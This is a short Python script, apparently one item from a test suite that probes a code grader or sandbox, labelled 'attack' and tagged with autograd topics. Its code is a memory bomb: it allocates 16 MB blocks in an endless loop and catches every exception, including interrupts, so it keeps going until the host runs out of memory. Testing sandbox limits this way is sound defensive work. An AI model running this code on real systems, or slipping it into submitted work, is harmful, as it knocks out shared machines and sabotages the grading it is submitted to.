# /// attack
# story = "Fills memory, catches every MemoryError and goes on for ever."
# grade = ["value", "backward", "graph", "nn", "training", "derivative"]
# ///
bomb = []
while True:
    try:
        bomb.append(bytearray(1 << 24))
    except BaseException:
        pass
